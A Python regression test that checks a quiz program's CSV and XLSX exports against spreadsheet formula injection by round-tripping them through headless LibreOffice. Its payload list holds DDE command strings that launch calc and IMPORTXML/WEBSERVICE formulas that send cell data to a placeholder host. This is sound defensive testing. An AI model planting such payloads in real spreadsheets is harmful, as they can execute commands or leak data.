#!/usr/bin/env python3
"""Opens every export in LibreOffice, headless, and reads it back with openpyxl.

Two hundred people enter under names that a careless export would let a spreadsheet calculate. Every
table is exported as CSV, GB18030 and XLSX; LibreOffice opens each and saves a workbook of its own. No
cell of these may be a formula, the workbooks' cells must be what openpyxl read before, and the names
must be there letter by letter. Not part of scripts/test: LibreOffice is large.

    apt-get install --no-install-recommends libreoffice-calc
    .build-python/bin/python3 Tests/Exports/libreoffice_test.py .build/release/safetyquiz
"""

import itertools
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

import openpyxl

PROGRAM = sys.argv[1]
BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "\"="]
BODIES = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"点\")", "WEBSERVICE(\"http://x\")",
          "SUM(1+1)*cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "A1:B9",
          "2+5,\"x\"", "DDE(\"cmd\",\"/C calc\",\"x\")", ";=1", ",=1", "R1C1", "NOW()", "@SUM(1)",
          "-1+1", "+1", "=1", "1E9", "00123", "TRUE()"]
NAMES = [beginning + body for beginning, body in itertools.product(BEGINNINGS, BODIES)]


def run(*arguments):
    result = subprocess.run([PROGRAM, *arguments], capture_output=True, text=True)
    if result.returncode:
        raise SystemExit(f"{arguments}: exit {result.returncode}\n{result.stdout}{result.stderr}")
    return result.stdout


def contest_file():
    date = lambda days: time.strftime("%Y-%m-%d", time.gmtime(time.time() + days * 86_400))
    return json.dumps({
        "contest": "sheets", "title": "=1+1", "organiser": "@SUM(1)", "bank": "sheets",
        "opens": date(-2) + " 00:00", "closes": date(3) + " 00:00",
        "tracks": [{"name": "main", "paper": {"questions": 2}}]}, ensure_ascii=False)


def enter(base, number, name):
    """One person with one attempt; the name, or none where the server takes no such name."""
    def call(method, path, body=None, token=None, **headers):
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(base + path, method=method, data=data)
        request.add_header("Content-Type", "application/json")
        if token:
            request.add_header("Authorization", "Bearer " + token)
        for key, value in headers.items():
            request.add_header(key.replace("_", "-"), value)
        return json.loads(urllib.request.urlopen(request, timeout=30).read())
    c = "/v1/contests/sheets"
    person = {"name": name, "consent_version": 1, "phone": f"1380000{number:04d}",
              "unit": 2 + number % 2}
    session = call("POST", c + "/participants", person,
                   Idempotency_Key=f"sheets-key-{number}")["session"]
    paper = call("POST", c + "/attempts", {}, session)
    path = c + "/attempts/" + paper["attempt"]
    for question in paper["questions"]:
        option = question["options"][number % 2]["token"]
        call("PUT", f"{path}/responses/{question['position']}", {"options": [option]}, session)
    call("POST", path + "/submission", None, session)


def cells(path):
    """Every sheet's cells as (sheet, row, column) → value; formulas end the test."""
    found = {}
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    raise SystemExit(f"{path}: {cell.coordinate} is a formula: {cell.value!r}")
                if cell.value is not None:
                    found[sheet.title, cell.row, cell.column] = cell.value
    return found


def convert(path, folder, *more):
    """The file as LibreOffice opens it, saved as a workbook."""
    target = os.path.join(folder, "opened")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile",
                    *more, "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", target, path],
                   check=True, capture_output=True, timeout=180)
    name = os.path.splitext(os.path.basename(path))[0]
    return os.path.join(target, name + ".xlsx")


def main():
    folder = tempfile.mkdtemp(prefix="safetyquiz-sheets-")
    place = lambda name: os.path.join(folder, name)
    server = subprocess.Popen([PROGRAM, "serve", "--port", "0", "--data", place("data")],
                              stdout=subprocess.PIPE, text=True)
    tables = ["standings", "people", "attempts", "tallies", "items"]
    try:
        base = server.stdout.readline().split()[-1]
        token = run("organiser", "token", "--name", "t", "--data", place("data")).strip()
        to = ["--url", base, "--token", token]
        questions = [{"id": f"=q{n}", "type": "single", "stem": f"=SUM({n})+第 {n} 题？",
                      "options": [f"=甲{n}", f"+乙{n}"], "key": "AB"[n % 2],
                      "explanation": "说明", "category": "@消防"} for n in range(9)]
        for question in questions:
            question["id"] = question["id"].replace("=", "e-")
        files = {"bank.json": json.dumps({"bank": "sheets", "title": "题库", "questions": questions}),
                 "contest.json": contest_file(),
                 "units.csv": "代码,名称,上级代码,人数\nA,\"=1+1\",,\n001,\"+A1\",A,9\n002,\"@NOW()\",A,\n"}
        for name, text in files.items():
            with open(place(name), "w") as file:
                file.write(text)
        run("bank", "import", place("bank.json"), *to)
        run("contest", "apply", place("contest.json"), "--units", place("units.csv"), *to)
        run("contest", "act", "sheets", "open", "--reason", "开", *to)
        entered, refused = [], []
        for number, name in enumerate(NAMES):
            try:
                enter(base, number, name)
                entered.append(name)
            except urllib.error.HTTPError as error:
                refused.append((name, error.read()))
        if refused:
            raise SystemExit(f"{len(refused)} names refused: {refused[0]}")
        run("contest", "act", "sheets", "close", "--reason", "完", *to)
        for table in tables:
            for form, ending in [("csv", "csv"), ("gb18030", "gb.csv"), ("xlsx", "xlsx")]:
                more = ["--phones", "--reason", "核对"] if table == "people" else []
                more += ["--of", "units"] if table == "tallies" else []
                run("export", table, "--contest", "sheets", "--format", form, *more, "--output",
                    place(f"{table}.{ending}"), *to)
        run("report", "--contest", "sheets", "--output", place("report.xlsx"), *to)
    finally:
        server.terminate()
        server.wait()
    count = 0
    for table in tables + ["report"]:
        path = place(table + ".xlsx")
        before, after = cells(path), cells(convert(path, folder))
        same = {key: after.get(key) for key in before}
        if same != before:
            key = next(key for key in before if same[key] != before[key])
            raise SystemExit(f"{path} {key}: {before[key]!r} became {same[key]!r}")
        count += len(before)
        if table == "people":
            values = set(map(str, before.values()))
            missing = [name for name in entered if name not in values]
            if missing or "13800000000" not in values:
                raise SystemExit(f"people.xlsx: {len(missing)} names are missing: {missing[:3]}")
    # 44,34 is a comma and quotes; 76 is UTF-8, 39 is GB18030 in LibreOffice's list of encodings.
    for ending, encoding in [("csv", 76), ("gb.csv", 39)]:
        for table in tables:
            path = place(f"{table}.{ending}")
            opened = cells(convert(path, folder, f"--infilter=CSV:44,34,{encoding}"))
            count += len(opened)
            if table == "people" and ending == "csv":
                texts = {str(value).lstrip("'\u200b") for value in opened.values()}
                missing = [name for name in entered if name.lstrip("'") not in texts]
                if missing:
                    raise SystemExit(f"{path}: {len(missing)} names are missing: {missing[:3]}")
    shutil.rmtree(folder)
    print(f"LibreOffice: {len(tables) * 3 + 1} files, {count} cells, {len(NAMES)} payloads, no formula")


main()
